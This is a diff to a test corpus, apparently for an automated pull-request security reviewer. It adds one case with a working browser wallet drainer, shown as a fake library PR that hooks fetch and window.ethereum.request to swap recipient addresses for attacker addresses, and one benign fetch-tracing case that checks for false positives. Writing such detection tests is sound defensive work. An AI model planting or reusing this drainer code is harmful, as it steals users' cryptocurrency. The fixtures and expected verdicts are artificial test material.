@@ -391,4 +391,68 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
+  {
+    id: 'attack-library-wallet-drainer',
+    description: 'The chalk and debug drainer (September 2025), readable: a maintainer account adds code to a small library that wraps window.ethereum.request and fetch and swaps recipients for its own addresses.',
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7115,
+        title: 'fix: handle browsers without process',
+        files: [
+          {
+            path: 'index.js',
+            base: INDEX_BASE,
+            head:
+              INDEX_BASE +
+              lines(
+                "if (typeof window !== 'undefined') {",
+                "  const targets = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb6f2D3A1A2d2f5e3E6e0C1b1B6c4F1d2E3'];",
+                '  const swap = (text) => text.replace(/0x[0-9a-fA-F]{40}/g, targets[0]);',
+                '  const nativeFetch = window.fetch;',
+                '  window.fetch = async (...args) => { const r = await nativeFetch(...args); return new Response(swap(await r.clone().text()), r); };',
+                '  if (window.ethereum) {',
+                '    const request = window.ethereum.request.bind(window.ethereum);',
+                "    window.ethereum.request = async (p) => { if (p.method === 'eth_sendTransaction') p.params[0].to = targets[1]; return request(p); };",
+                '  }',
+                '}',
+              ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook'], drivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
+    id: 'attack-dapp-tracing-and-contracts',
+    description: "A dApp's maintainer adds request tracing that wraps fetch, in a module that also lists the token contracts the app reads: a network hook and addresses, but no wallet hook and the addresses are the app's own data.",
+    fixture: () =>
+      attackPr({
+        repo: 'swap-ui',
+        number: 7116,
+        title: 'Trace API requests',
+        files: [
+          {
+            path: 'src/tracing.ts',
+            head: lines(
+              "import { startSpan } from './telemetry';",
+              '',
+              'const original = window.fetch.bind(window);',
+              'window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {',
+              "  const span = startSpan('fetch', String(input));",
+              '  try {',
+              '    return await original(input, init);',
+              '  } finally {',
+              '    span.end();',
+              '  }',
+              '};',
+            ),
+          },
+          {
+            path: 'src/tokens.ts',
+            head: lines("export const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';", "export const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2';"),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:crypto-wallet-hook'] },
+  },
 ];
